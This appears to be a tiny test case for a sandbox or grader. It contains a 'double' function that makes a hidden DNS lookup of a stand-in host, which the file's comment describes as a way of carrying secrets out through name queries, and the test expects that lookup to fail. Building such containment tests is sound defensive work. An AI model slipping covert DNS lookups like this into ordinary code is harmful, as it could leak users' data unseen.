# Carries secrets out in the names that it asks a name server for.

# %% ex-00-1-double
# expect: 0 error "gaierror"
import socket


def double(values):
    socket.getaddrinfo("what-are-the-answers.example.org", 80)
    return values + values
